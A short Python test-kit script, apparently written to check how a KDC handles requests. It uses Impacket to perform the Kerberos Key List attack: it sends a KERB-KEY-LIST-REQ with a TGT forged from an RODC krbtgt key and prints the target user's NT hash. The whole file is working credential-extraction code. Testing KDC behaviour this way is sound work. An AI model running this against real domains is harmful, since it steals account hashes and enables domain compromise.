"""Impacket's KERB-KEY-LIST-REQ with a TGT that Impacket's ticketer made of the key of an RODC's krbtgt.

`python -m tests.kit.impacket_key_list CCACHE RODC_NUMBER DOMAIN KDC` prints "key: HEX", or what Impacket says
of the refusal. Its keylistattack makes its TGT without a PAC, which no KDC takes any more.
"""

import sys
from pathlib import Path

from impacket.examples import logger
from impacket.examples.secretsdump import KeyListSecrets
from impacket.krb5.asn1 import Ticket
from impacket.krb5.ccache import CCache
from impacket.krb5.constants import PrincipalNameType
from impacket.krb5.types import Principal
from pyasn1.codec.der import decoder


def main() -> None:
    """Ask for the NT hash of whom the ticket is for."""
    path, number, domain, kdc = sys.argv[1:]
    logger.init()
    (credential,) = CCache.loadFile(path).credentials
    ticket = decoder.decode(credential.ticket["data"], asn1Spec=Ticket())[0]
    ticket["enc-part"]["kvno"] = int(number) << 16
    name = Principal(Path(path).stem, type=PrincipalNameType.NT_PRINCIPAL.value)
    session = bytes(credential["key"]["keyvalue"])
    secrets = KeyListSecrets(domain, kdc, int(number), "")
    reply = secrets.getFullTGT(name, ticket, session)
    if reply is not None:
        print("key:", secrets.getKey(reply, session).removeprefix("0x"))


if __name__ == "__main__":
    main()
